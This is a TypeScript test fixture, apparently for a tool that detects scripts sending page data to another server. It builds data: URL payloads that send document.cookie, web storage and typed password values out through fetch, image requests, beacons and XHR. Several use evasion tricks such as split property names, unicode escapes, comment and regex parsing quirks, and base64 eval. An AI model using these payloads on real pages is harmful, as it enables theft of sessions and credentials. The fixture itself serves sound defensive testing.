/** Scripts that send a page's data to another server: where they get it, and where browsers refuse it. */

export interface SendingUrl {
  name: string;
  destination: 'script' | 'iframe';
  /** @param to begins an address of the other server, and ends with a question mark */
  make(to: string): string;
  /** The text that arrives after the question mark. */
  arrives: string;
  messageId: string;
}

/** The page's cookie, and the text in its storage. */
export const cookie = 'secret=cookie';
export const stored = 'stored';

const script = (text: string) => `data:text/javascript,${encodeURIComponent(text)}`;
const page = (text: string) => `data:text/html,${encodeURIComponent(text)}`;
/** Sends nothing if the source throws. */
const tried = (to: string, source: string) =>
  page(`<script>try{fetch("${to}"+${source})}catch{fetch("${to}")}</script>`);

const scripts: Record<string, (to: string) => [text: string, arrives: string]> = {
  'a fetch': (to) => [`fetch("${to}"+document.cookie)`, cookie],
  'a picture': (to) => [`new Image().src='${to}'+document['coo'+'kie']`, cookie],
  'a beacon': (to) => [`navigator.sendBeacon(\`${to}\${window["document"]?.c\\u006fokie}\`)`, cookie],
  'a request in pieces': (to) => [
    `const x=new XMLHttpRequest();let u='${to}';u+=localStorage.getItem('a');x.open('GET',u);x.send()`,
    stored,
  ],
  'a comment that ends with its line': (to) => [`//\rfetch("${to}"+localStorage.a)`, stored],
  'a regular expression behind a condition': (to) => [
    `if(1)/\`/.test('');fetch("${to}"+document.cookie)`,
    cookie,
  ],
  'encoded code': (to) => [`(0,eval)(atob('${btoa(`fetch("${to}"+document.cookie)`)}'))`, cookie],
};

export const sendingUrls: readonly SendingUrl[] = [
  ...Object.entries(scripts).map(
    ([name, make]): SendingUrl => ({
      name,
      destination: 'script',
      make: (to) => script(make(to)[0]),
      arrives: make('')[1],
      messageId: 'script-sends',
    }),
  ),
  ...['document.cookie', 'localStorage.a', 'sessionStorage.a'].map(
    (source): SendingUrl => ({
      name: `${source} in a frame`,
      destination: 'iframe',
      make: (to) => tried(to, source),
      arrives: '',
      messageId: 'script-sends-refused',
    }),
  ),
  {
    name: 'what is typed in a frame',
    destination: 'iframe',
    make: (to) =>
      page(
        `<input type=password id=p value=typed><script>fetch("${to}"+document.getElementById('p').value)</script>`,
      ),
    arrives: 'typed',
    messageId: 'script-sends',
  },
  {
    name: 'a handler in a frame',
    destination: 'iframe',
    make: (to) =>
      page(`<form><input name=pin value=typed><img src=data:, onerror="fetch('${to}'+forms[0].pin.value)">`),
    arrives: 'typed',
    messageId: 'script-sends',
  },
];
